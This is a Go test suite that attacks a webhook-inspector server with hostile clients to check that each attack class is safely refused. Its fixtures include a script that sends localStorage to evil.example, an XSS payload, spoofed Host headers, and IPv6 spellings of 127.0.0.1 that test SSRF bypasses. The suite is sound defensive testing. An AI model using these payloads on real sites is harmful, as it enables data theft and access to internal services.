package main

// The hostile-client suite (issue 12): one test per class of attack,
// against the real server (App on 127.0.0.1:0), on both stores where
// storage is involved. Each asserts the safe outcome: the status, that the
// server still answers, bounded heap, nothing stored that should not be,
// nothing lost that was answered.

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/fasthttp/websocket"

	"github.com/hookscope/hookscope/schema/clickhouse/chtest"
	"github.com/hookscope/hookscope/web"
)

// eachStore runs f against the embedded store and ClickHouse.
func eachStore(t *testing.T, env map[string]string, f func(t *testing.T, a *testApp)) {
	t.Run("embedded", func(t *testing.T) { f(t, startApp(t, t.TempDir(), cloneEnv(env))) })
	t.Run("clickhouse", func(t *testing.T) {
		e := cloneEnv(env)
		e["HOOKSCOPE_CLICKHOUSE_URL"] = chtest.Start(t).Database(t)
		f(t, startApp(t, t.TempDir(), e))
	})
}

func cloneEnv(env map[string]string) map[string]string {
	out := map[string]string{}
	for k, v := range env {
		out[k] = v
	}
	return out
}

// heapInUse is the live heap after a collection: the server runs in this
// process, so this bounds what an attack made it keep.
func heapInUse() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// totalAlloc is the cumulative bytes allocated by this process.
func totalAlloc() uint64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.TotalAlloc
}

// alive checks the server still answers.
func alive(t *testing.T, a *testApp) {
	t.Helper()
	if s, _, _ := call(t, "GET", a.base+"/healthz", nil, ""); s != 200 {
		t.Fatalf("server no longer answers /healthz: %d", s)
	}
}

func captureN(t *testing.T, a *testApp, bin string, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		if s, _, b := call(t, "POST", a.base+"/h/"+bin+"/n", nil, "x"); s != 200 {
			t.Fatalf("capture: %d %s", s, b)
		}
	}
}

// Class 1: time, duration and count parameters that would size a response.
// The stats span at its extremes (years 1 to 9999, steps from 1ns) answers
// 400 naming the parameter, with bounded heap; the reported OOM was
// since=9999-12-30&until=9999-12-31&step=10s.
func TestHostileStatsSpan(t *testing.T) {
	eachStore(t, nil, func(t *testing.T, a *testApp) {
		bin := a.newBin(t, nil).ID
		captureN(t, a, bin, 3)
		a.waitCount(t, bin, 3)
		before := heapInUse()
		times := []string{"0001-01-01T00:00:00Z", "1000-06-01T00:00:00Z", "1969-12-31T23:59:59Z", "2100-01-01T00:00:00Z", "9999-12-30T00:00:00Z", "9999-12-31T23:59:59Z"}
		steps := []string{"1ns", "1us", "1ms", "10s", "1h", "2562047h"}
		for _, since := range times {
			for _, until := range times {
				for _, step := range steps {
					q := url.Values{"since": {since}, "until": {until}, "step": {step}}
					s, _, b := call(t, "GET", a.base+"/api/v1/bins/"+bin+"/stats?"+q.Encode(), nil, "")
					if s != 400 || !(strings.Contains(string(b), `\"since\"`) || strings.Contains(string(b), `\"until\"`) || strings.Contains(string(b), `\"step\"`)) {
						t.Fatalf("%s: %d %s, want 400 naming a parameter", q.Encode(), s, b)
					}
				}
			}
		}
		// Legal extremes: the widest range at the smallest step is refused,
		// the widest range with the automatic step answers a bounded series.
		s, _, b := call(t, "GET", a.base+"/api/v1/bins/"+bin+"/stats?since=1970-01-01T00:00:00Z&until=2099-12-31T23:59:59Z&step=1s", nil, "")
		if s != 400 || !strings.Contains(string(b), "step") {
			t.Fatalf("1s over 130 years: %d %s", s, b)
		}
		var st struct {
			Total  int64 `json:"total"`
			Series []any `json:"series"`
		}
		doJSON(t, "GET", a.base+"/api/v1/bins/"+bin+"/stats?since=1970-01-01T00:00:00Z&until=2099-12-31T23:59:59Z", nil, 200, &st)
		if st.Total != 3 || len(st.Series) == 0 || len(st.Series) > 10_000 {
			t.Fatalf("widest range: total %d, %d points", st.Total, len(st.Series))
		}
		for _, bad := range []string{"requests?limit=1000000", "requests?before=" + strings.Repeat("A", 10000), "requests?since=9999-12-31T00:00:00Z",
			"requests?q=" + strings.Repeat("x", 600), "requests?until=0001-01-01T00:00:00Z"} {
			if s, _, b := call(t, "GET", a.base+"/api/v1/bins/"+bin+"/"+bad, nil, ""); s != 400 {
				t.Errorf("%.60s: %d %s", bad, s, b)
			}
		}
		grew := int64(heapInUse()) - int64(before)
		if grew > 64<<20 {
			t.Fatalf("heap grew %d MiB", grew>>20)
		}
		t.Logf("216 extreme stats queries: live heap grew %d KiB", grew>>10)
		alive(t, a)
	})
}

// Class 2: parameters a route does not read are refused, never ignored:
// DELETE .../requests?method=GET used to clear the whole bin.
func TestHostileUnknownParams(t *testing.T) {
	eachStore(t, nil, func(t *testing.T, a *testApp) {
		nb := a.newBin(t, nil)
		bin, owner := nb.ID, map[string]string{"Authorization": "Bearer " + nb.Token}
		captureN(t, a, bin, 4)
		a.waitCount(t, bin, 4)
		for _, u := range []string{"/requests?everything=1", "/requests?method=GET&limit=1", "/requests?before=x&q=x", "/requests?metod=GET"} {
			if s, _, b := call(t, "DELETE", a.base+"/api/v1/bins/"+bin+u, owner, ""); s != 400 {
				t.Fatalf("DELETE %s: %d %s, want 400", u, s, b)
			}
		}
		a.waitCount(t, bin, 4) // nothing was deleted
		// The list's filters delete what they match (issue 17), never more:
		// a filter matching nothing deletes nothing.
		for _, u := range []string{"/requests?method=PUT", "/requests?status=5xx", "/requests?q=no-such-text"} {
			if s, _, b := call(t, "DELETE", a.base+"/api/v1/bins/"+bin+u, owner, ""); s != 200 || string(b) != `{"deleted":0}` {
				t.Fatalf("DELETE %s: %d %s, want 200 {\"deleted\":0}", u, s, b)
			}
		}
		a.waitCount(t, bin, 4)
		if s, _, _ := call(t, "DELETE", a.base+"/api/v1/bins/"+bin+"/requests", nil, ""); s != 401 {
			t.Fatalf("clear without the owner token: %d, want 401", s)
		}
		for _, u := range []string{"/requests?limit=1&limit=1000", "/stats?stepp=1m", "?x=1", "/requests?metod=GET"} {
			if s, _, b := call(t, "GET", a.base+"/api/v1/bins/"+bin+u, nil, ""); s != 400 {
				t.Errorf("GET %s: %d %s, want 400", u, s, b)
			}
		}
		if s, _, _ := call(t, "DELETE", a.base+"/api/v1/bins/"+bin+"/requests", owner, ""); s != 204 {
			t.Fatalf("plain clear: %d", s)
		}
		a.waitCount(t, bin, 0)
	})
}

// Class 3: whatever a capture answers (a custom response, a proxied
// target's answer) is sandboxed: it cannot run script on the inspector's
// origin. The custom response still reaches the sender as configured.
func TestHostileCaptureAnswerSandboxed(t *testing.T) {
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Security-Policy", "script-src *")
		io.WriteString(w, "<script>alert(localStorage)</script>")
	}))
	defer target.Close()
	a := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_ALLOW_PRIVATE_TARGETS": "true"})
	page := `<script>fetch("https://evil.example/?"+JSON.stringify(localStorage))</script>`
	custom := a.newBin(t, map[string]any{"response": map[string]any{"status": 200, "body": page,
		"headers": [][2]string{{"Content-Type", "text/html"}, {"Content-Security-Policy", "default-src *"},
			{"X-Content-Type-Options", "sniff"}}}}).ID
	proxy := a.newBin(t, map[string]any{"forward": map[string]any{"url": target.URL, "mode": "proxy"}}).ID
	for _, c := range []struct{ bin, body string }{{custom, page}, {proxy, "<script>alert(localStorage)</script>"}, {"unknown-bin", ""}} {
		s, h, b := call(t, "GET", a.base+"/h/"+c.bin, nil, "")
		if csp := h.Values("Content-Security-Policy"); len(csp) != 1 || !strings.HasPrefix(csp[0], "sandbox") {
			t.Errorf("%s: CSP %q, want exactly our sandbox", c.bin, csp)
		}
		if x := h.Values("X-Content-Type-Options"); len(x) != 1 || x[0] != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q", c.bin, x)
		}
		if c.body != "" && (s != 200 || string(b) != c.body || h.Get("Content-Type") != "text/html") {
			t.Errorf("%s: the sender got %d %q %q, want the configured answer", c.bin, s, h.Get("Content-Type"), b)
		}
	}
}

// Class 3b: a separate capture origin serves captures only, and bin URLs
// point at it.
func TestHostileCaptureOrigin(t *testing.T) {
	a := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_CAPTURE_URL": "http://hooks.example.test", "HOOKSCOPE_PUBLIC_URL": "http://inspector.example.test"})
	bin := a.newBin(t, nil)
	if bin.URL != "http://hooks.example.test/h/"+bin.ID {
		t.Fatalf("bin URL %q", bin.URL)
	}
	for _, p := range []string{"/", "/api/v1/bins/" + bin.ID, "/bins/" + bin.ID} {
		raw := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: hooks.example.test\r\n\r\n", p)
		if resp := rawRequest(t, a.Addr(), []byte(raw)); resp.StatusCode != 404 {
			t.Errorf("capture origin served %s: %d", p, resp.StatusCode)
		}
	}
	raw := fmt.Sprintf("POST /h/%s HTTP/1.1\r\nHost: hooks.example.test\r\nContent-Length: 1\r\n\r\nx", bin.ID)
	if resp := rawRequest(t, a.Addr(), []byte(raw)); resp.StatusCode != 200 {
		t.Fatalf("capture on the capture origin: %d", resp.StatusCode)
	}
	a.waitCount(t, bin.ID, 1)
}

// Class 4: API bodies are bounded: a declared length over the limit is
// refused before it is read; a chunked body is cut at the limit. Nothing is
// created and the heap does not grow with what was sent.
func TestHostileAPIBody(t *testing.T) {
	a := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_MAX_API_BODY_BYTES": "65536"})
	before := heapInUse()
	allocBefore := totalAlloc()
	// 200 MB declared, 16 KiB sent: the answer comes without reading the
	// rest (fasthttp pre-reads at most 8 KiB of a body before any handler).
	raw := "POST /api/v1/bins HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 200000000\r\n\r\n{" + strings.Repeat(" ", 16<<10)
	if resp := rawRequest(t, a.Addr(), []byte(raw)); resp.StatusCode != 413 {
		t.Fatalf("declared 200 MB: %d", resp.StatusCode)
	}
	// 64 MiB chunked: refused once the limit is passed.
	pr, pw := io.Pipe()
	go func() {
		chunk := []byte(`{"name":"` + strings.Repeat("a", 1<<20))
		for i := 0; i < 64; i++ {
			if _, err := pw.Write(chunk); err != nil {
				return
			}
		}
		pw.Close()
	}()
	req, _ := http.NewRequest("POST", a.base+"/api/v1/bins", pr)
	req.ContentLength = -1
	resp, err := http.DefaultClient.Do(req)
	if err == nil {
		if resp.StatusCode != 413 {
			t.Fatalf("chunked 64 MiB: %d", resp.StatusCode)
		}
		resp.Body.Close()
	} // else: the server closed while the client was still sending, also a refusal
	pr.CloseWithError(io.ErrClosedPipe)
	bins, err := a.store.ListBins(t.Context())
	if err != nil || len(bins) != 0 {
		t.Fatalf("%d bins stored (%v)", len(bins), err)
	}
	grew := int64(heapInUse()) - int64(before)
	if grew > 32<<20 {
		t.Fatalf("heap grew %d MiB", grew>>20)
	}
	// Everything allocated in this process meanwhile (server and client):
	// far below what was sent, so the server never buffered it.
	alloc := totalAlloc() - allocBefore
	if alloc > 24<<20 {
		t.Fatalf("%d MiB allocated while 264 MB were offered", alloc>>20)
	}
	t.Logf("200 MB declared + 64 MiB chunked: %d KiB allocated in total, live heap grew %d KiB", alloc>>10, grew>>10)
	// A body within the limit still works.
	a.newBin(t, map[string]any{"name": strings.Repeat("n", 100)})
	alive(t, a)
}

// Class 5: a websocket frame over the cap closes the connection (1009)
// without buffering it.
func TestHostileWebsocketFrame(t *testing.T) {
	a := startApp(t, t.TempDir(), nil)
	bin := a.newBin(t, nil).ID
	c := dialLive(t, a, bin, "")
	if err := c.WriteMessage(websocket.TextMessage, make([]byte, 8<<20)); err != nil {
		return // closed while we were still sending: refused
	}
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	_, _, err := c.ReadMessage()
	if !websocket.IsCloseError(err, websocket.CloseMessageTooBig) {
		t.Fatalf("after an 8 MiB frame: %v, want close 1009", err)
	}
	alive(t, a)
}

// Class 6: fasthttp's 400 for an unparsable request must not echo it
// (Authorization, Cookie).
func TestHostileBadRequestNoEcho(t *testing.T) {
	a := startApp(t, t.TempDir(), nil)
	for _, raw := range []string{
		"GET /api/v1/bins HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer SECRET-TOKEN\r\nCookie: s=SECRET-COOKIE\r\nBroken header line\r\n\r\n",
		"GET /h/x HTTP/1.1\r\nAuthorization: Bearer SECRET-TOKEN\r\nCookie: s=SECRET-COOKIE\r\nContent-Length: -5\r\n\r\n",
	} {
		resp := rawRequest(t, a.Addr(), []byte(raw))
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 400 || strings.Contains(string(b), "SECRET") {
			t.Errorf("%d %s", resp.StatusCode, b)
		}
	}
	alive(t, a)
}

// Class 7: the documented header maximum is inclusive: exactly 100 header
// lines are captured, 101 get 431 and are not stored.
func TestHostileHeaderCountBoundary(t *testing.T) {
	a := startApp(t, t.TempDir(), nil) // HOOKSCOPE_MAX_HEADERS defaults to 100
	bin := a.newBin(t, nil).ID
	send := func(n int) int {
		var sb strings.Builder
		fmt.Fprintf(&sb, "POST /h/%s HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n", bin)
		for i := 0; i < n-2; i++ { // Host and Content-Length count
			fmt.Fprintf(&sb, "X-H%d: v\r\n", i)
		}
		sb.WriteString("\r\nx")
		return rawRequest(t, a.Addr(), []byte(sb.String())).StatusCode
	}
	if s := send(100); s != 200 {
		t.Fatalf("100 header lines: %d", s)
	}
	if s := send(101); s != 431 {
		t.Fatalf("101 header lines: %d", s)
	}
	a.waitCount(t, bin, 1)
}

// Class 8: /metrics needs an admin token when HOOKSCOPE_AUTH=required.
func TestHostileMetricsNeedAdmin(t *testing.T) {
	dir := t.TempDir()
	a := startApp(t, dir, map[string]string{"HOOKSCOPE_AUTH": "required"})
	if s, _, _ := call(t, "GET", a.base+"/metrics", nil, ""); s != 401 {
		t.Fatalf("anonymous /metrics: %d", s)
	}
	if s, _, _ := call(t, "GET", a.base+"/metrics?token="+mint(t, serverKey(t, dir), web.ScopeAdmin, "", time.Hour), nil, ""); s == 200 {
		t.Fatal("admin token in the URL accepted for /metrics")
	}
	if s, _, b := call(t, "GET", a.base+"/metrics", bearerHdr(mint(t, serverKey(t, dir), web.ScopeAdmin, "", time.Hour)), ""); s != 200 || !strings.Contains(string(b), "hookscope_") {
		t.Fatalf("admin /metrics: %d", s)
	}
}

// Class 9: without HOOKSCOPE_PUBLIC_URL, bin and share URLs are not built
// from a client's Host / X-Forwarded-Proto unless it is a trusted proxy.
func TestHostileHostHeader(t *testing.T) {
	create := func(a *testApp) (binURL, shareURL string) {
		hdr := map[string]string{"X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example"}
		raw := "POST /api/v1/bins HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Host: evil.example\r\nContent-Length: 2\r\n\r\n{}"
		resp := rawRequest(t, a.Addr(), []byte(raw))
		var bin binResp
		b, _ := io.ReadAll(resp.Body)
		if err := jsonUnmarshal(b, &bin); err != nil || resp.StatusCode != 201 {
			t.Fatalf("create: %d %s", resp.StatusCode, b)
		}
		hdr["Authorization"] = "Bearer " + bin.Token
		s, _, sb := call(t, "POST", a.base+"/api/v1/bins/"+bin.ID+"/share", hdr, "{}")
		var sh struct{ URL string }
		if err := jsonUnmarshal(sb, &sh); err != nil || s != 201 {
			t.Fatalf("share: %d %s", s, sb)
		}
		return bin.URL, sh.URL
	}
	a := startApp(t, t.TempDir(), nil)
	bu, su := create(a)
	if !strings.HasPrefix(bu, a.base+"/h/") || !strings.HasPrefix(su, a.base+"/bins/") {
		t.Fatalf("untrusted client chose the URLs: %s %s", bu, su)
	}
	p := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_TRUSTED_PROXIES": "127.0.0.1/32"})
	bu, _ = create(p)
	if !strings.HasPrefix(bu, "https://evil.example/h/") {
		t.Fatalf("a trusted proxy's forwarded host was not used: %s", bu)
	}
}

// Class 10: the SSRF guard refuses IPv6 spellings of internal IPv4
// addresses; the capture is still recorded, with the refusal.
func TestHostileSSRFEmbeddings(t *testing.T) {
	hits := 0
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits++ }))
	defer target.Close()
	port := target.URL[strings.LastIndexByte(target.URL, ':')+1:]
	a := startApp(t, t.TempDir(), nil)
	for _, host := range []string{"[::127.0.0.1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::1]", "[::ffff:0:7f00:1]"} {
		bin := a.newBin(t, map[string]any{"forward": map[string]any{"url": "http://" + host + ":" + port + "/", "mode": "proxy", "timeout": "2s"}}).ID
		if s, _, _ := call(t, "POST", a.base+"/h/"+bin, nil, "x"); s != 502 {
			t.Errorf("%s: proxy answered %d, want 502", host, s)
		}
		var full struct {
			Forward *forwardResp `json:"forward"`
		}
		l := a.waitCount(t, bin, 1)
		doJSON(t, "GET", a.base+"/api/v1/bins/"+bin+"/requests/"+l.Requests[0].ID, nil, 200, &full)
		if full.Forward == nil || !strings.Contains(full.Forward.Error, "SSRF") {
			t.Errorf("%s: forward %+v, want an SSRF refusal", host, full.Forward)
		}
	}
	if hits != 0 {
		t.Fatalf("the internal target was reached %d times", hits)
	}
}

// Class 11: one address cannot hold more than HOOKSCOPE_MAX_CONNS_PER_IP
// connections; a closed one frees its slot.
func TestHostileConnectionsPerIP(t *testing.T) {
	a := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_MAX_CONNS_PER_IP": "3"})
	var conns []net.Conn
	for i := 0; i < 3; i++ {
		c, err := net.Dial("tcp", a.Addr())
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		conns = append(conns, c)
	}
	refused := func() bool {
		c, err := net.Dial("tcp", a.Addr())
		if err != nil {
			return true
		}
		defer c.Close()
		fmt.Fprintf(c, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
		_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			return true
		}
		resp.Body.Close()
		return false
	}
	if !refused() {
		t.Fatal("a fourth connection was served")
	}
	conns[0].Close()
	deadline := time.Now().Add(10 * time.Second)
	for refused() {
		if time.Now().After(deadline) {
			t.Fatal("slot not freed after a connection closed")
		}
		time.Sleep(20 * time.Millisecond)
	}
	for _, c := range conns {
		c.Close()
	}
	for refused() { // the server notices the closes asynchronously
		if time.Now().After(deadline) {
			t.Fatal("slots not freed")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if v := metricValue(t, a.base, "hookscope_connections_refused_total"); v == 0 {
		t.Errorf("refusals not counted: %v", v)
	}
}

// Class 12: data files are 0600 and directories 0700.
func TestHostileDataFileModes(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "data")
	a := startApp(t, dir, nil)
	bin := a.newBin(t, nil).ID
	captureN(t, a, bin, 3)
	a.waitCount(t, bin, 3)
	n := 0
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		if fi.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s: mode %v is readable by others", p, fi.Mode().Perm())
		}
		n++
		return nil
	})
	if err != nil || n < 3 {
		t.Fatalf("walked %d entries: %v", n, err)
	}
	if _, err := os.Stat(filepath.Join(dir, "hookscope.db")); err != nil {
		t.Fatal(err)
	}
}

// Class 13: forwarding records its latency (it was always 0).
func TestHostileForwardLatencyRecorded(t *testing.T) {
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(202) }))
	defer target.Close()
	a := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_ALLOW_PRIVATE_TARGETS": "true"})
	for _, mode := range []string{"proxy", "async"} {
		bin := a.newBin(t, map[string]any{"forward": map[string]any{"url": target.URL, "mode": mode}}).ID
		captureN(t, a, bin, 0)
		call(t, "POST", a.base+"/h/"+bin, nil, "x")
		l := a.waitCount(t, bin, 1)
		var full struct {
			Forward *struct {
				Status    int   `json:"status"`
				LatencyUS int64 `json:"latency_us"`
			} `json:"forward"`
		}
		doJSON(t, "GET", a.base+"/api/v1/bins/"+bin+"/requests/"+l.Requests[0].ID, nil, 200, &full)
		if full.Forward == nil || full.Forward.Status != 202 || full.Forward.LatencyUS <= 0 {
			t.Errorf("%s: forward %+v, want status 202 and a latency", mode, full.Forward)
		}
	}
}

// Class 14: shutdown closes live feeds with 1001 (going away), not 1013.
func TestHostileShutdownClosesFeeds1001(t *testing.T) {
	a := startApp(t, t.TempDir(), nil)
	bin := a.newBin(t, nil).ID
	c := dialLive(t, a, bin, "")
	done := make(chan error, 1)
	go func() {
		_ = c.SetReadDeadline(time.Now().Add(15 * time.Second))
		for {
			if _, _, err := c.ReadMessage(); err != nil {
				done <- err
				return
			}
		}
	}()
	a.stop(t)
	err := <-done
	if !websocket.IsCloseError(err, websocket.CloseGoingAway) {
		t.Fatalf("feed ended with %v, want close 1001", err)
	}
}

func jsonUnmarshal(b []byte, v any) error { return json.Unmarshal(b, v) }

// Class 15: an upload the sender abandons is recorded, marked aborted and
// truncated, with no response status; it is never counted as answered.
func TestHostileAbortedUpload(t *testing.T) {
	eachStore(t, nil, func(t *testing.T, a *testApp) {
		bin := a.newBin(t, map[string]any{"response": map[string]any{"status": 201, "body": "thanks"}}).ID
		c, err := net.Dial("tcp", a.Addr())
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "POST /h/%s/upload HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n", bin)
		if _, err := c.Write(make([]byte, 100<<10)); err != nil {
			t.Fatal(err)
		}
		c.Close() // the sender gives up after 100 KiB of 1 MB
		l := a.waitCount(t, bin, 1)
		var full struct {
			reqResp
			Aborted bool `json:"aborted"`
		}
		doJSON(t, "GET", a.base+"/api/v1/bins/"+bin+"/requests/"+l.Requests[0].ID, nil, 200, &full)
		if !full.Aborted || !full.BodyTruncated || full.ResponseStatus != 0 || full.BodySize <= 0 || full.BodySize > 100<<10 {
			t.Fatalf("aborted upload recorded as aborted=%v truncated=%v status=%d size=%d", full.Aborted, full.BodyTruncated, full.ResponseStatus, full.BodySize)
		}
		// A complete delivery next to it is answered and recorded normally.
		if s, _, b := call(t, "POST", a.base+"/h/"+bin, nil, "ok"); s != 201 || string(b) != "thanks" {
			t.Fatalf("complete delivery: %d %s", s, b)
		}
		l = a.waitCount(t, bin, 2)
		var st struct {
			ByStatus map[string]int64 `json:"by_status"`
		}
		doJSON(t, "GET", a.base+"/api/v1/bins/"+bin+"/stats", nil, 200, &st)
		if st.ByStatus["201"] != 1 || st.ByStatus["200"] != 0 {
			t.Errorf("stats by status %v: the aborted upload must not count as answered", st.ByStatus)
		}
	})
}

// Class 16: a shutdown that overruns its deadline still drains what was
// answered: every request that got its answer is there after a restart.
func TestHostileShutdownOverrunKeepsAnswered(t *testing.T) {
	// A proxy bin records after its target answers: these records enter the
	// pipeline after the shutdown deadline has passed.
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(700 * time.Millisecond)
		w.WriteHeader(202)
	}))
	defer target.Close()
	dir := t.TempDir()
	a := startApp(t, dir, map[string]string{"HOOKSCOPE_ALLOW_PRIVATE_TARGETS": "true"})
	slow := a.newBin(t, map[string]any{"forward": map[string]any{"url": target.URL, "mode": "proxy", "timeout": "5s"}}).ID
	fast := a.newBin(t, nil).ID
	type answer struct {
		status int
		id     string
	}
	answers := make(chan answer, 40)
	for i := 0; i < 20; i++ {
		go func(bin string) {
			resp, err := http.Post(a.base+"/h/"+bin, "text/plain", strings.NewReader("x"))
			if err != nil {
				answers <- answer{}
				return
			}
			resp.Body.Close()
			answers <- answer{resp.StatusCode, resp.Header.Get("X-Hookscope-Request-Id")}
		}(map[bool]string{true: slow, false: fast}[i%2 == 0])
	}
	time.Sleep(200 * time.Millisecond) // the slow ones are inside their delay
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	_ = a.Shutdown(ctx) // overruns: the slow answers take 700ms
	a.App = nil
	var answered []string
	statuses := map[int]int{}
	for i := 0; i < 20; i++ {
		an := <-answers
		statuses[an.status]++
		if an.status >= 200 && an.status < 300 && an.id != "" {
			answered = append(answered, an.id)
		}
	}
	// Requests in flight at the deadline are finished, not refused.
	if statuses[202] != 10 || statuses[200] != 10 {
		t.Fatalf("answers by status %v, want 10 x 202 (proxied) and 10 x 200", statuses)
	}
	b := startApp(t, dir, nil)
	for _, id := range answered {
		found := false
		for _, bin := range []string{slow, fast} {
			if s, _, _ := call(t, "GET", b.base+"/api/v1/bins/"+bin+"/requests/"+id, nil, ""); s == 200 {
				found = true
			}
		}
		if !found {
			t.Errorf("answered request %s lost", id)
		}
	}
	t.Logf("%d answered, all kept", len(answered))
}

// Class 17 (issue 21): one address creating bins as fast as it can on a
// default (public) instance gets its burst and then 429s; only what was
// answered 201 exists.
func TestHostileBinCreationFlood(t *testing.T) {
	a := startApp(t, t.TempDir(), map[string]string{"HOOKSCOPE_QUOTAS": "public"})
	created, refused := 0, 0
	for i := 0; i < 300; i++ {
		s, h, _ := call(t, "POST", a.base+"/api/v1/bins", nil, "{}")
		switch s {
		case 201:
			created++
		case 429:
			refused++
			if h.Get("Retry-After") == "" {
				t.Fatal("429 without Retry-After")
			}
		default:
			t.Fatalf("create %d: %d", i, s)
		}
	}
	if created > int(web.PublicQuotas.CreatePerMinute)+1 || refused == 0 {
		t.Fatalf("%d created, %d refused; want at most the burst of %v", created, refused, web.PublicQuotas.CreatePerMinute)
	}
	bins, err := a.store.ListBins(t.Context())
	if err != nil || len(bins) != created {
		t.Fatalf("%d bins stored, %d answered 201 (%v)", len(bins), created, err)
	}
}
